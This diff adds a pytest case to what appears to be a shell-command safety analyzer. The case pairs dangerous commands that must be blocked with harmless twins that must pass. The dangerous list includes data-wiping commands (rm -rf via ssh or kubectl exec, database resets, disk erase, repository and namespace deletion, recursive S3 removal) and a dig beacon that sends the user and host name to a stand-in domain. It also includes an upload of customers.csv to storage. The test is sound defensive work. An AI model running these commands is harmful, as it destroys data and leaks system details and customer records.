@@ -412,6 +412,28 @@ def test_credentials_leaving_and_bulk_removals_block(command: str) -> None:
     assert ("block" in {action for _, action in decided(command)}), decided(command)
 
 
+@pytest.mark.parametrize(("command", "twin"), [
+    ("npx prisma migrate reset --force", "npx prisma migrate deploy"),
+    ("python manage.py flush --noinput", "python manage.py migrate"),
+    ("alembic downgrade base", "alembic downgrade base --sql"),
+    ('dig +short "$(whoami)-$(hostname).beacon.example"', "dig +short api.github.com"),
+    ("az storage blob upload --account-name drop -c in -f customers.csv -n c.csv",
+     "az storage blob download --account-name drop -c in -f customers.csv -n c.csv"),
+    ("kubectl exec -it db-0 -- rm -rf /var/lib/postgresql/data", "kubectl exec -it db-0 -- ls /var/lib/postgresql"),
+    ("ssh web1 rm -rf /srv/www", "ssh web1 ls -la /srv/www"),
+    ("gh repo delete acme/website --yes", "gh repo view acme/website"),
+    ("diskutil eraseDisk APFS Backup disk4", "diskutil list disk4"),
+    ("git switch -f main", "git switch -c feature/x"),
+    ('cmd=(rm -rf /srv/data); "${cmd[@]}"', 'cmd=(ls -la /srv/data); "${cmd[@]}"'),
+    ("parallel rm -rf ::: /srv/a /srv/b", "parallel gzip ::: /srv/a.log"),
+    ("kubectl delete namespace shop --dry-run=none", "kubectl delete namespace shop --dry-run=client"),
+    ("aws s3 rm s3://reports/ --recursive", "aws s3 rm s3://reports/ --recursive --dryrun"),
+])
+def test_hidden_and_framework_operations_block_and_their_twins_do_not(command: str, twin: str) -> None:
+    assert "block" in {action for _, action in decided(command)}, decided(command)
+    assert "block" not in {action for _, action in decided(twin)}, decided(twin)
+
+
 def test_only_secret_looking_names_from_the_secrets_catalogue_are_secrets(tmp_path: Path) -> None:
     from analyzer.frontends.shell.knowledge import knowledge
     from analyzer.frontends.shell.script import ScriptUnit
